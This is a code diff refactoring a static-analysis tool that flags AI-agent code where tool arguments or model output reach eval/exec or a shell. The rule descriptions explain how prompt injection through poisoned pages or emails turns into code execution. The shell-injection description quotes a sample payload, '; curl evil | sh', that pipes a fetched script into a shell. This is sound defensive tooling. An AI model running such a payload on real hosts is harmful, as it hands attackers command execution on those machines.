@@ -3294,6 +3294,42 @@ async function modelIdUsesOf(context) {
 	if (!tree) return [];
 	return isPython(context.file) ? pythonModelIds(tree) : tsModelIds(tree);
 }
+// src/rules/reliability/model-id-rule.ts
+/**
+* The body of a rule that judges every model id a file chooses (Python, TS/JS and YAML agent config): `prefilter`
+* skips files that cannot hold a judged id, and `judge` sees each id normalised (`id`) and as written (`written`).
+* The fix swaps the id inside its string literal, provider prefix and quotes kept.
+*/
+function modelIdRule(prefilter, judge) {
+	return {
+		appliesTo: (file) => isPython(file) || isScript(file) || isYaml(file),
+		async run(context) {
+			const { file } = context;
+			if (!prefilter.test(file.text)) return;
+			for (const use of await modelIdUsesOf(context)) {
+				const id = normaliseModelId(use.value);
+				const verdict = judge(id, use.value);
+				if (!verdict) continue;
+				const { replacement } = verdict;
+				const healed = replacement ? replaceModelIdInLiteral(file.text.slice(use.start, use.end), id, replacement.id) : void 0;
+				context.report({
+					start: use.start,
+					end: use.end,
+					message: verdict.message,
+					fingerprintContent: verdict.fingerprintContent,
+					...replacement && healed !== void 0 ? { fix: {
+						description: replacement.description,
+						edits: [{
+							start: use.start,
+							end: use.end,
+							text: healed
+						}]
+					} } : { fixability: "structural" }
+				});
+			}
+		}
+	};
+}
 // src/rules/reliability/model-pins.ts
 /**
 * Floating or preview model ids and the stable id that pins the same model, used by the
@@ -3341,35 +3377,20 @@ var floatingModelAliasCheck = defineRule({
 	frameworks: [],
 	knows: ["`-latest`, `-preview` and `-exp` ids; ids already shut down are left to reliability/retired-model"],
 	precision: "high"
-}, {
-	appliesTo: (file) => isPython(file) || isScript(file) || isYaml(file),
-	async run(context) {
-		const { file } = context;
-		if (!PREFILTER.test(file.text)) return;
-		for (const use of await modelIdUsesOf(context)) {
-			const id = normaliseModelId(use.value);
-			if (retiredModel(use.value)) continue;
-			const match = FLOATING_ALIAS_PATTERNS.find((entry) => entry.pattern.test(id));
-			if (!match) continue;
-			const pin = pinnedModel(id);
-			const healed = pin ? replaceModelIdInLiteral(file.text.slice(use.start, use.end), id, pin) : void 0;
-			context.report({
-				start: use.start,
-				end: use.end,
-				message: `Model '${id}' is a floating or preview alias: ${match.why}.`,
-				fingerprintContent: `floating:${id}`,
-				...healed !== void 0 ? { fix: {
-					description: `pin model '${id}' → '${pin}'`,
-					edits: [{
-						start: use.start,
-						end: use.end,
-						text: healed
-					}]
-				} } : { fixability: "structural" }
-			});
-		}
-	}
-});
+}, modelIdRule(PREFILTER, (id, written) => {
+	if (retiredModel(written)) return void 0;
+	const match = FLOATING_ALIAS_PATTERNS.find((entry) => entry.pattern.test(id));
+	if (!match) return void 0;
+	const pin = pinnedModel(id);
+	return {
+		message: `Model '${id}' is a floating or preview alias: ${match.why}.`,
+		fingerprintContent: `floating:${id}`,
+		replacement: pin ? {
+			id: pin,
+			description: `pin model '${id}' → '${pin}'`
+		} : void 0
+	};
+}));
 // src/rules/reliability/http-call-no-timeout.ts
 var REQUESTS_METHODS = /* @__PURE__ */ new Set([
 	"get",
@@ -3870,34 +3891,18 @@ var retiredModelCheck = defineRule({
 	frameworks: [],
 	knows: ["provider shutdown dates as of 2026-12-04: OpenAI deprecations page, Anthropic model deprecations page, Gemini API deprecations page (sources in retired-models.ts)", "model ids in `model=`/`model:` arguments, chat-model constructors, AI SDK provider calls, module constants and YAML `model:`/`llm:` keys"],
 	precision: "very-high"
-}, {
-	appliesTo: (file) => isPython(file) || isScript(file) || isYaml(file),
-	async run(context) {
-		const { file } = context;
-		if (!FAMILIES.test(file.text)) return;
-		for (const use of await modelIdUsesOf(context)) {
-			const retired = retiredModel(use.value);
-			if (!retired) continue;
-			const id = normaliseModelId(use.value);
-			const literal = file.text.slice(use.start, use.end);
-			const healed = retired.replacement ? replaceModelIdInLiteral(literal, id, retired.replacement) : void 0;
-			context.report({
-				start: use.start,
-				end: use.end,
-				message: `Model '${id}' was retired by ${retired.provider} on ${retired.retired}, so every request to it fails; move to ${retired.successor}.`,
-				fingerprintContent: `retired:${id}`,
-				...healed !== void 0 ? { fix: {
-					description: `model '${id}' → '${retired.replacement}'`,
-					edits: [{
-						start: use.start,
-						end: use.end,
-						text: healed
-					}]
-				} } : { fixability: "structural" }
-			});
-		}
-	}
-});
+}, modelIdRule(FAMILIES, (id, written) => {
+	const retired = retiredModel(written);
+	if (!retired) return void 0;
+	return {
+		message: `Model '${id}' was retired by ${retired.provider} on ${retired.retired}, so every request to it fails; move to ${retired.successor}.`,
+		fingerprintContent: `retired:${id}`,
+		replacement: retired.replacement ? {
+			id: retired.replacement,
+			description: `model '${id}' → '${retired.replacement}'`
+		} : void 0
+	};
+}));
 // src/rules/reliability/retries-disabled.ts
 /** Python constructors and their default retry count. */
 var PYTHON_DEFAULTS = {
@@ -4958,10 +4963,29 @@ function memoisedHelperSummary(memo, helper, spec, fill) {
 }
 // src/rules/security/support/flow-taint.ts
 var FlowTaint = class {
+	scope;
 	options;
 	events = /* @__PURE__ */ new Map();
-	constructor(options) {
+	/** `seeds` are tainted from the start of `scope` (a tool's parameters); the subclass's walk records the rest. */
+	constructor(scope, seeds, options = {}) {
+		this.scope = scope;
 		this.options = options;
+		for (const seed of seeds) this.record(seed, scope.startIndex, true);
+		this.propagate();
+	}
+	/** Does the value of `node`, evaluated at `position`, carry tainted data? */
+	taintedAt(node, position) {
+		if (this.options.isSource?.(node)) return true;
+		if (this.isNameReference(node)) return this.isNameTaintedAt(node.text, position);
+		if (this.isSanitizerCall(node)) return false;
+		const { member, keyed, functions } = this.valueGrammar;
+		if (node.type === member) return this.taintedAt(node.childForFieldName("object"), position);
+		if (node.type === keyed) {
+			const value = node.childForFieldName("value");
+			return !!value && this.taintedAt(value, position);
+		}
+		if (functions.includes(node.type)) return false;
+		return node.namedChildren.some((child) => this.taintedAt(child, position));
 	}
 	record(name, position, tainted) {
 		const list = this.events.get(name) ?? [];
@@ -5001,13 +5025,6 @@ var FlowTaint = class {
 };
 // src/rules/security/support/python-taint.ts
 var PythonTaint = class extends FlowTaint {
-	scope;
-	constructor(scope, seeds, options = {}) {
-		super(options);
-		this.scope = scope;
-		for (const seed of seeds) this.record(seed, scope.startIndex, true);
-		this.propagate();
-	}
 	/** The latest assignment value of `name` before `position`, to follow a variable back to how it was built. */
 	assignedValue(name, position) {
 		let found;
@@ -5022,24 +5039,11 @@ var PythonTaint = class extends FlowTaint {
 		return node.type === "identifier" && isReference(node);
 	}
 	isSanitizerCall(node) {
-		return node.type === "call" && this.isSanitizer(node);
+		if (node.type !== "call") return false;
+		return this.isSanitizerName(node.childForFieldName("function")?.text.replace(/\s+/g, "") ?? "") || (this.options.cleanCall?.test(node) ?? false);
 	}
-	taintedAt(node, position) {
-		if (this.options.isSource?.(node)) return true;
-		switch (node.type) {
-			case "identifier": return isReference(node) && this.isNameTaintedAt(node.text, position);
-			case "call":
-				if (this.isSanitizer(node)) return false;
-				break;
-			case "attribute": return this.taintedAt(node.childForFieldName("object"), position);
-			case "keyword_argument": return !!node.childForFieldName("value") && this.taintedAt(node.childForFieldName("value"), position);
-			case "lambda":
-			case "function_definition": return false;
-		}
-		return node.namedChildren.some((child) => this.taintedAt(child, position));
-	}
-	isSanitizer(call) {
-		return this.isSanitizerName(call.childForFieldName("function")?.text.replace(/\s+/g, "") ?? "") || (this.options.cleanCall?.test(call) ?? false);
+	get valueGrammar() {
+		return PYTHON_VALUES;
 	}
 	propagate() {
 		const binders = this.scope.descendantsOfType([
@@ -5098,6 +5102,11 @@ var PythonTaint = class extends FlowTaint {
 			}
 		}
 	}
+};
+var PYTHON_VALUES = {
+	member: "attribute",
+	keyed: "keyword_argument",
+	functions: ["lambda", "function_definition"]
 };
 /** Identifiers bound by an assignment target: `a`, `a, b`, `[a, *b]`; not `obj.attr` or `d[k]`. */
 function boundNames(target) {
@@ -5417,14 +5426,12 @@ var FUNCTION_TYPES = [
 	"generator_function",
 	"generator_function_declaration"
 ];
+var TS_VALUES = {
+	member: "member_expression",
+	keyed: "pair",
+	functions: FUNCTION_TYPES
+};
 var TsTaint = class extends FlowTaint {
-	scope;
-	constructor(scope, seeds, options = {}) {
-		super(options);
-		this.scope = scope;
-		for (const seed of seeds) this.record(seed, scope.startIndex, true);
-		this.propagate();
-	}
 	/** The latest initialiser/assignment of `name` before `position`. */
 	assignedValue(name, position) {
 		let found;
@@ -5439,24 +5446,10 @@ var TsTaint = class extends FlowTaint {
 		return node.type === "identifier" || node.type === "shorthand_property_identifier";
 	}
 	isSanitizerCall(node) {
-		return node.type === "call_expression" && this.isSanitizer(node);
+		return node.type === "call_expression" && this.isSanitizerName(tsCalleeText(node));
 	}
-	taintedAt(node, position) {
-		if (this.options.isSource?.(node)) return true;
-		switch (node.type) {
-			case "identifier":
-			case "shorthand_property_identifier": return this.isNameTaintedAt(node.text, position);
-			case "call_expression":
-				if (this.isSanitizer(node)) return false;
-				break;
-			case "member_expression": return this.taintedAt(node.childForFieldName("object"), position);
-			case "pair": return !!node.childForFieldName("value") && this.taintedAt(node.childForFieldName("value"), position);
-			default: if (FUNCTION_TYPES.includes(node.type)) return false;
-		}
-		return node.namedChildren.some((child) => this.taintedAt(child, position));
-	}
-	isSanitizer(call) {
-		return this.isSanitizerName(tsCalleeText(call));
+	get valueGrammar() {
+		return TS_VALUES;
 	}
 	propagate() {
 		for (const binder of this.scope.descendantsOfType([
@@ -5466,32 +5459,28 @@ var TsTaint = class extends FlowTaint {
 			"for_in_statement"
 		])) {
 			if (insideNestedFunction(binder, this.scope)) continue;
-			if (binder.type === "variable_declarator") {
-				const name = binder.childForFieldName("name");
-				const value = binder.childForFieldName("value");
-				if (!name || !value) continue;
-				const tainted = this.taintedAt(value, binder.startIndex);
-				for (const bound of patternNames(name)) this.record(bound, binder.endIndex, tainted);
-			} else if (binder.type === "assignment_expression") {
-				const left = binder.childForFieldName("left");
-				const right = binder.childForFieldName("right");
-				if (!left || !right) continue;
-				const tainted = this.taintedAt(right, binder.startIndex);
-				for (const bound of patternNames(left)) this.record(bound, binder.endIndex, tainted);
-			} else if (binder.type === "augmented_assignment_expression") {
+			if (binder.type === "augmented_assignment_expression") {
 				const left = binder.childForFieldName("left");
 				const right = binder.childForFieldName("right");
 				if (left?.type !== "identifier" || !right) continue;
 				this.record(left.text, binder.endIndex, this.isNameTaintedAt(left.text, binder.startIndex) || this.taintedAt(right, binder.startIndex));
-			} else {
-				const left = binder.childForFieldName("left");
-				const right = binder.childForFieldName("right");
-				if (!left || !right) continue;
-				const tainted = this.taintedAt(right, binder.startIndex);
-				for (const bound of patternNames(left)) this.record(bound, right.endIndex, tainted);
+				continue;
 			}
+			const [targetField, valueField] = BINDING_FIELDS[binder.type];
+			const target = binder.childForFieldName(targetField);
+			const value = binder.childForFieldName(valueField);
+			if (!target || !value) continue;
+			const tainted = this.taintedAt(value, binder.startIndex);
+			const boundAt = binder.type === "for_in_statement" ? value.endIndex : binder.endIndex;
+			for (const bound of patternNames(target)) this.record(bound, boundAt, tainted);
 		}
 	}
+};
+/** Where each binding form keeps what it binds and the value bound: `const x = v`, `x = v`, `for (const x of v)`. */
+var BINDING_FIELDS = {
+	variable_declarator: ["name", "value"],
+	assignment_expression: ["left", "right"],
+	for_in_statement: ["left", "right"]
 };
 /** Names bound by a binding pattern: `x`, `{ a, b: c, ...rest }`, `[a, b = 1]`. */
 function patternNames(pattern) {
@@ -5693,6 +5682,16 @@ function describeOrigin(origin) {
 	const names = origin.names.slice(0, 3).map((name) => `'${name}'`).join(", ");
 	if (origin.kind === "tool-input") return `receives tool input${names ? ` ${names}` : ""} of ${origin.tool ?? "a tool"}`;
 	return `receives model output${names ? ` ${names}` : ""}`;
+}
+/**
+* A sink finding of the rules that trace both tool input and model output: `eval(...) receives tool input 'expr' of
+* calc (@tool); <risk>`, fingerprinted by the sink's `key` and the origin, not by the line.
+*/
+function originFinding(origin, sink) {
+	return {
+		message: `${sink.label} ${describeOrigin(origin)}; ${sink.risk}`,
+		fingerprintContent: `${sink.key}|${origin.kind}|${origin.names.join(",")}`
+	};
 }
 // src/rules/security/support/helper-calls.ts
 /** Text that can make a function a tool in its own file (decorators, tools=[...], tool classes, LangGraph's positional list). */
@@ -6026,36 +6025,87 @@ async function tsHelperFlows(modules, module, analysis, spec) {
 	return flows;
 }
 // src/rules/security/support/sink-rule.ts
+var PYTHON = {
+	mayHoldTools: pythonMayHoldTools,
+	analysisInAgent: pythonAnalysisInAgent,
+	calls,
+	helperFlows: pythonHelperFlows
+};
+var TYPESCRIPT = {
+	mayHoldTools: (context) => TS_TOOL_TEXT.test(context.file.text),
+	analysisInAgent: tsAnalysisInAgent,
+	calls: callExpressions,
+	helperFlows: tsHelperFlows
+};
 /**
-* The run every tool-input sink rule shares (code execution, shell, SQL, SSRF): cheap text tests first, the
-* agent's cross-module analysis only when this module may hold a sink or a tool, then the module's own sinks
-* and the sinks one helper call away.
+* A tool-input sink rule (code execution, shell, SQL, SSRF): every one reads the same tool declarations of the
+* same frameworks, in Python and TS/JS, through the run below.
 */
-async function runSinkRule(context, sides) {
-	const { file } = context;
-	if (file.language === "python") {
-		const side = sides.python;
-		const hasSinks = side.sinkText.test(file.text);
-		if (!hasSinks && !await pythonMayHoldTools(context)) return;
-		const scope = await pythonAnalysisInAgent(context);
-		if (!scope || side.needsOwnTool && scope.analysis.tools.length === 0) return;
-		if (hasSinks) side.direct(scope, context.report);
-		for (const flow of await pythonHelperFlows(scope.modules, scope.module, scope.analysis, side.helper)) {
-			const finding = side.helperReport(flow);
-			if (finding) context.report(finding);
-		}
-		return;
-	}
-	const side = sides.ts;
-	const hasSinks = side.sinkText.test(file.text);
-	if (!hasSinks && !TS_TOOL_TEXT.test(file.text)) return;
-	const scope = await tsAnalysisInAgent(context);
+function defineSinkRule(meta, sides) {
+	return defineRule({
+		...meta,
+		knows: TOOL_DECLARATIONS_KNOWN,
+		frameworks: TOOL_FRAMEWORKS
+	}, {
+		appliesTo: (file) => PY_OR_TS(file.language),
+		run: (context) => context.file.language === "python" ? runSinkSide(context, sides.python, PYTHON) : runSinkSide(context, sides.ts, TYPESCRIPT)
+	});
+}
+/**
+* The run every tool-input sink rule shares: cheap text tests first, the agent's cross-module analysis only
+* when this module may hold a sink or a tool, then the module's own sinks and the sinks one helper call away.
+*/
+async function runSinkSide(context, side, language) {
+	const hasSinks = side.sinkText.test(context.file.text);
+	if (!hasSinks && !await language.mayHoldTools(context)) return;
+	const scope = await language.analysisInAgent(context);
 	if (!scope || side.needsOwnTool && scope.analysis.tools.length === 0) return;
-	if (hasSinks) side.direct(scope, context.report);
-	for (const flow of await tsHelperFlows(scope.modules, scope.module, scope.analysis, side.helper)) {
+	if (hasSinks) for (const call of language.calls(scope.module.tree)) {
+		const finding = side.direct(call, scope);
+		if (finding) context.report({
+			start: call.startIndex,
+			end: call.endIndex,
+			...finding
+		});
+	}
+	for (const flow of await language.helperFlows(scope.modules, scope.module, scope.analysis, side.helper)) {
 		const finding = side.helperReport(flow);
 		if (finding) context.report(finding);
 	}
+}
+/**
+* One language side of a rule whose sinks take tool input and model output alike: a call of the module is a finding
+* when either reaches one of its `args`, and a helper's call is a sink when the helper's parameter does. One `find`
+* serves both, so the module's own sinks and the helpers' never disagree.
+*/
+function originSinkSide(side) {
+	return {
+		sinkText: side.sinkText,
+		direct(call, { analysis, module }) {
+			const sink = side.find(call, module);
+			if (!sink) return void 0;
+			for (const arg of sink.args) {
+				const origin = analysis.origin(arg, {
+					modelOutput: true,
+					taint: side.taint
+				});
+				if (origin) return originFinding(origin, sink);
+			}
+		},
+		helper: {
+			key: side.key,
+			taint: side.taint,
+			mayHaveSink: side.helperText ?? side.sinkText,
+			sinks: (calls, taint, module) => calls.flatMap((call) => {
+				const sink = side.find(call, module);
+				return sink && sink.args.some((arg) => taint.isTainted(arg)) ? [{
+					call,
+					label: sink.label
+				}] : [];
+			})
+		},
+		helperReport: side.helperReport
+	};
 }
 // src/rules/security/code-exec-from-input.ts
 var PY_SINKS = /* @__PURE__ */ new Set([
@@ -6072,86 +6122,6 @@ var VM_FUNCTIONS = /* @__PURE__ */ new Set([
 	"runInContext",
 	"compileFunction"
 ]);
-var codeExecFromInputCheck = defineRule({
-	id: "security/code-exec-from-input",
-	title: "Tool input or model output reaches eval/exec",
-	description: "A tool function (LangChain/CrewAI/smolagents @tool, OpenAI Agents @function_tool, Pydantic AI @agent.tool, ADK tools=[...], AI SDK/OpenAI Agents/Mastra tool execute) or a model response feeds eval, exec, compile, new Function or node:vm. The model picks tool arguments, so one prompt injection (a poisoned web page, email or document) becomes arbitrary code running with the agent's privileges. " + HELPER_HOP_SENTENCE,
-	persona: "secops",
-	category: "security",
-	severity: "error",
-	fixability: "structural",
-	tags: [
-		"security",
-		"CWE-94",
-		"CWE-95",
-		"LLM05:2025",
-		"ASI05"
-	],
-	remediation: "Do not evaluate model-chosen text. Parse data with json.loads / ast.literal_eval / JSON.parse, map the input to a fixed set of operations, or run generated code in a real sandbox (ADK BuiltInCodeExecutor/VertexAiCodeExecutor, smolagents executor_type=\"e2b\"/\"docker\", a container or microVM) with no credentials.",
-	docs: "https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/",
-	knows: TOOL_DECLARATIONS_KNOWN,
-	frameworks: TOOL_FRAMEWORKS,
-	precision: "high",
-	securitySeverity: 9.8
-}, {
-	appliesTo: (file) => PY_OR_TS(file.language),
-	run: (context) => runSinkRule(context, {
-		python: {
-			sinkText: PY_CODE_TEXT,
-			direct({ analysis, module }, report) {
-				for (const call of calls(module.tree)) {
-					const sink = pythonCodeSink(call, analysis.imports);
-					if (!sink) continue;
-					const origin = analysis.origin(sink.code, {
-						modelOutput: true,
-						taint: PY_TAINT
-					});
-					if (!origin) continue;
-					report({
-						start: call.startIndex,
-						end: call.endIndex,
-						message: `${sink.callee}(...) ${describeOrigin(origin)}; ${pythonRisk(sink.callee)}`,
-						fingerprintContent: `${sink.callee}|${origin.kind}|${origin.names.join(",")}`
-					});
-				}
-			},
-			helper: PY_HELPER_SPEC$3,
-			helperReport: (flow) => helperFlowReport(flow, {
-				tool: `${flow.tool.name} (${flow.tool.via})`,
-				param: `'${flow.param}'`,
-				reaches: "to",
-				tail: `; ${pythonRisk(flow.sink.label.replace("(...)", ""))}`
-			})
-		},
-		ts: {
-			sinkText: TS_CODE_TEXT,
-			direct({ analysis, module }, report) {
-				for (const call of callExpressions(module.tree)) {
-					const sink = tsCodeSink(call, module);
-					if (!sink) continue;
-					for (const arg of sink.codeArgs) {
-						const origin = analysis.origin(arg, { modelOutput: true });
-						if (!origin) continue;
-						report({
-							start: call.startIndex,
-							end: call.endIndex,
-							message: `${sink.label} ${describeOrigin(origin)}; ${sink.why}, so text the model controls runs as code in the server process.`,
-							fingerprintContent: `${sink.label}|${origin.kind}|${origin.names.join(",")}`
-						});
-						break;
-					}
-				}
-			},
-			helper: TS_HELPER_SPEC$3,
-			helperReport: (flow) => helperFlowReport(flow, {
-				tool: flow.tool.via,
-				param: flow.param,
-				reaches: "to",
-				tail: ", so text the model controls runs as code in the server process."
-			})
-		}
-	})
-});
 var TS_CODE_TEXT = /\beval\s*\(|\bFunction\s*\(|\brunIn\w*Context|\bcompileFunction|\bScript\s*\(/;
 var vmMemo = /* @__PURE__ */ new WeakMap();
 /** An eval / Function / node:vm call of the module and the arguments that carry code. */
@@ -6164,21 +6134,23 @@ function tsCodeSink(call, module) {
 	if (!sink) return void 0;
 	const args = tsArguments(call);
 	return {
-		...sink,
-		codeArgs: sink.allArgs ? args : args.slice(0, 1)
+		label: sink.label,
+		key: sink.label,
+		risk: `${sink.why}, so text the model controls runs as code in the server process.`,
+		args: sink.allArgs ? args : args.slice(0, 1)
 	};
 }
-var TS_HELPER_SPEC$3 = {
+var TS_SINKS$1 = originSinkSide({
 	key: "security/code-exec-from-input",
-	mayHaveSink: TS_CODE_TEXT,
-	sinks: (calls, taint, module) => calls.flatMap((call) => {
-		const sink = tsCodeSink(call, module);
-		return sink && sink.codeArgs.some((arg) => taint.isTainted(arg)) ? [{
-			call,
-			label: sink.label
-		}] : [];
+	sinkText: TS_CODE_TEXT,
+	find: tsCodeSink,
+	helperReport: (flow) => helperFlowReport(flow, {
+		tool: flow.tool.via,
+		param: flow.param,
+		reaches: "to",
+		tail: ", so text the model controls runs as code in the server process."
 	})
-};
+});
 var PY_CODE_TEXT = /\b(eval|exec|compile)\s*\(/;
 /** Characters that cannot spell a name, a string or an attribute: text made of them is arithmetic. */
 var ARITHMETIC_ONLY = /^[0-9\s.+\-*/%()]*$/;
@@ -6227,26 +6199,25 @@ function pythonCodeSink(call, imports) {
 	if (callee.endsWith("compile") && call.parent?.type === "argument_list" && /^(builtins\.)?(eval|exec)$/.test(calleeText(call.parent.parent))) return void 0;
 	const code = keywordArgument(call, "source") ?? positionalArguments(call)[0];
 	return code ? {
-		callee,
-		code
+		label: `${callee}(...)`,
+		key: callee,
+		risk: pythonRisk(callee),
+		args: [code]
 	} : void 0;
 }
-/** The same sinks inside a helper a tool calls (one hop, same file or another module of the agent). */
-var PY_HELPER_SPEC$3 = {
+/** The sinks of the module, and the same sinks inside a helper a tool calls (one hop, same file or another module of the agent). */
+var PYTHON_SINKS$1 = originSinkSide({
 	key: "security/code-exec-from-input",
+	sinkText: PY_CODE_TEXT,
 	taint: PY_TAINT,
-	mayHaveSink: PY_CODE_TEXT,
-	sinks: (calls, taint, module) => {
-		const imports = pythonImportMap(module.tree);
-		return calls.flatMap((call) => {
-			const sink = pythonCodeSink(call, imports);
-			return sink && taint.isTainted(sink.code) ? [{
-				call,
-				label: `${sink.callee}(...)`
-			}] : [];
-		});
-	}
-};
+	find: (call, module) => pythonCodeSink(call, pythonImportMap(module.tree)),
+	helperReport: (flow) => helperFlowReport(flow, {
+		tool: `${flow.tool.name} (${flow.tool.via})`,
+		param: `'${flow.param}'`,
+		reaches: "to",
+		tail: `; ${pythonRisk(flow.sink.label.replace("(...)", ""))}`
+	})
+});
 function tsSink(call, vm, shadowed) {
 	const isNew = call.type === "new_expression";
 	const callee = tsCalleeText(call);
@@ -6268,6 +6239,29 @@ function tsSink(call, vm, shadowed) {
 		allArgs: false
 	};
 }
+var codeExecFromInputCheck = defineSinkRule({
+	id: "security/code-exec-from-input",
+	title: "Tool input or model output reaches eval/exec",
+	description: "A tool function (LangChain/CrewAI/smolagents @tool, OpenAI Agents @function_tool, Pydantic AI @agent.tool, ADK tools=[...], AI SDK/OpenAI Agents/Mastra tool execute) or a model response feeds eval, exec, compile, new Function or node:vm. The model picks tool arguments, so one prompt injection (a poisoned web page, email or document) becomes arbitrary code running with the agent's privileges. " + HELPER_HOP_SENTENCE,
+	persona: "secops",
+	category: "security",
+	severity: "error",
+	fixability: "structural",
+	tags: [
+		"security",
+		"CWE-94",
+		"CWE-95",
+		"LLM05:2025",
+		"ASI05"
+	],
+	remediation: "Do not evaluate model-chosen text. Parse data with json.loads / ast.literal_eval / JSON.parse, map the input to a fixed set of operations, or run generated code in a real sandbox (ADK BuiltInCodeExecutor/VertexAiCodeExecutor, smolagents executor_type=\"e2b\"/\"docker\", a container or microVM) with no credentials.",
+	docs: "https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/",
+	precision: "high",
+	securitySeverity: 9.8
+}, {
+	python: PYTHON_SINKS$1,
+	ts: TS_SINKS$1
+});
 // src/rules/security/dangerous-framework-flag.ts
 /** Each flag is off by default in its framework; turning it on is an explicit opt-in to running or loading untrusted code. */
 var FLAGS = {
@@ -6780,87 +6774,6 @@ var NODE_OPTIONAL_SHELL = /* @__PURE__ */ new Set([
 	"execFile",
 	"execFileSync"
 ]);
-var shellInjectionCheck = defineRule({
-	id: "security/shell-injection",
-	title: "Tool input reaches a shell command",
-	description: "A tool argument or model response is interpolated into a command that a shell parses: subprocess with shell=True, os.system, os.popen, asyncio.create_subprocess_shell, or Node child_process exec/execSync. The model chooses tool arguments, so text injected into its context (`; curl evil | sh`, `$(...)`) runs as commands on the host. " + HELPER_HOP_SENTENCE,
-	persona: "secops",
-	category: "security",
-	severity: "error",
-	fixability: "structural",
-	tags: [
-		"security",
-		"CWE-78",
-		"LLM05:2025",
-		"ASI05",
-		"ASI02"
-	],
-	remediation: "Pass an argument list without a shell: subprocess.run([\"git\", \"log\", \"--\", path], shell=False) or execFile(\"git\", [\"log\", \"--\", path]); validate the input against an allowlist of commands/flags, or quote it with shlex.quote when a shell is unavoidable. Run command tools in a sandbox.",
-	docs: "https://docs.python.org/3/library/subprocess.html#security-considerations",
-	knows: TOOL_DECLARATIONS_KNOWN,
-	frameworks: TOOL_FRAMEWORKS,
-	precision: "high",
-	securitySeverity: 9.8
-}, {
-	appliesTo: (file) => PY_OR_TS(file.language),
-	run: (context) => runSinkRule(context, {
-		python: {
-			sinkText: PY_SHELL_TEXT,
-			direct({ analysis, module }, report) {
-				for (const call of calls(module.tree)) {
-					const sink = pythonShellSink(call, analysis.imports);
-					if (!sink) continue;
-					const origin = analysis.origin(sink.command, {
-						modelOutput: true,
-						taint: { sanitizers: PY_SANITIZERS }
-					});
-					if (!origin) continue;
-					report({
-						start: call.startIndex,
-						end: call.endIndex,
-						message: `${sink.label} ${describeOrigin(origin)}; ${SHELL_RISK}`,
-						fingerprintContent: `${sink.callee}|${origin.kind}|${origin.names.join(",")}`
-					});
-				}
-			},
-			helper: PY_HELPER_SPEC$2,
-			helperReport: (flow) => helperFlowReport(flow, {
-				tool: `${flow.tool.name} (${flow.tool.via})`,
-				param: `'${flow.param}'`,
-				reaches: "to",
-				tail: `; ${SHELL_RISK}`
-			})
-		},
-		ts: {
-			sinkText: /child_process/,
-			direct({ analysis, module }, report) {
-				const bindings = childProcessBindings(module);
-				for (const call of callExpressions(module.tree)) {
-					const sink = tsShellSink(call, bindings);
-					if (!sink) continue;
-					const origin = analysis.origin(sink.command, {
-						modelOutput: true,
-						taint: { sanitizers: TS_SANITIZERS }
-					});
-					if (!origin) continue;
-					report({
-						start: call.startIndex,
-						end: call.endIndex,
-						message: `${sink.label} ${describeOrigin(origin)}; ${sink.fnName} runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host.`,
-						fingerprintContent: `${sink.fnName}|${origin.kind}|${origin.names.join(",")}`
-					});
-				}
-			},
-			helper: TS_HELPER_SPEC$2,
-			helperReport: (flow) => helperFlowReport(flow, {
-				tool: flow.tool.via,
-				param: flow.param,
-				reaches: "to",
-				tail: "; that runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host."
-			})
-		}
-	})
-});
 var childProcessMemo = /* @__PURE__ */ new WeakMap();
 /** How the module names child_process and its functions (memoised per tree). */
 function childProcessBindings(module) {
@@ -6887,25 +6800,24 @@ function tsShellSink(call, { cp, promisified }) {
 	if (!command) return void 0;
 	return {
 		label: NODE_SHELL_FUNCTIONS.has(fnName) ? `child_process.${fnName}(...)` : `child_process.${fnName}(..., { shell: true })`,
-		fnName,
-		command
+		key: fnName,
+		risk: `${fnName} runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host.`,
+		args: [command]
 	};
 }
-var TS_HELPER_SPEC$2 = {
+var TS_SINKS = originSinkSide({
 	key: "security/shell-injection",
+	sinkText: /child_process/,
+	helperText: /\(/,
 	taint: { sanitizers: TS_SANITIZERS },
-	mayHaveSink: /\(/,
-	sinks: (calls, taint, module) => {
-		const bindings = childProcessBindings(module);
-		return calls.flatMap((call) => {
-			const sink = tsShellSink(call, bindings);
-			return sink && taint.isTainted(sink.command) ? [{
-				call,
-				label: sink.label
-			}] : [];
-		});
-	}
-};
+	find: (call, module) => tsShellSink(call, childProcessBindings(module)),
+	helperReport: (flow) => helperFlowReport(flow, {
+		tool: flow.tool.via,
+		param: flow.param,
+		reaches: "to",
+		tail: "; that runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host."
+	})
+});
 var PY_SHELL_TEXT = /\b(subprocess|os|asyncio|system|popen|create_subprocess_shell|getoutput)\b/;
 var SHELL_RISK = "the shell interprets ; | && $() in that text, so a prompt injection runs arbitrary commands on the host.";
 /** A call that hands a command string to a shell, and the argument that carries the command. */
@@ -6920,26 +6832,24 @@ function pythonShellSink(call, imports) {
 	const command = keywordArgument(call, "args") ?? keywordArgument(call, "cmd") ?? keywordArgument(call, "command") ?? positionalArguments(call)[0];
 	return command ? {
 		label,
-		callee,
-		command
+		key: callee,
+		risk: SHELL_RISK,
+		args: [command]
 	} : void 0;
 }
-/** The same sinks inside a helper a tool calls (one hop, same file or another module of the agent). */
-var PY_HELPER_SPEC$2 = {
+/** The sinks of the module, and the same sinks inside a helper a tool calls (one hop, same file or another module of the agent). */
+var PYTHON_SINKS = originSinkSide({
 	key: "security/shell-injection",
+	sinkText: PY_SHELL_TEXT,
 	taint: { sanitizers: PY_SANITIZERS },
-	mayHaveSink: PY_SHELL_TEXT,
-	sinks: (calls, taint, module) => {
-		const imports = pythonImportMap(module.tree);
-		return calls.flatMap((call) => {
-			const sink = pythonShellSink(call, imports);
-			return sink && taint.isTainted(sink.command) ? [{
-				call,
-				label: sink.label
-			}] : [];
-		});
-	}
-};
+	find: (call, module) => pythonShellSink(call, pythonImportMap(module.tree)),
+	helperReport: (flow) => helperFlowReport(flow, {
+		tool: `${flow.tool.name} (${flow.tool.via})`,
+		param: `'${flow.param}'`,
+		reaches: "to",
+		tail: `; ${SHELL_RISK}`
+	})
+});
 /** `cp.exec`, `exec` (named import), `execAsync` (promisify(exec)) → the child_process function name. */
 function childProcessFunction(callee, cp, promisified) {
 	const [head, member] = callee.split(".");
@@ -6959,6 +6869,29 @@ function promisifiedExec(root, cp) {
 	}
 	return result;
 }
+var shellInjectionCheck = defineSinkRule({
+	id: "security/shell-injection",
+	title: "Tool input reaches a shell command",
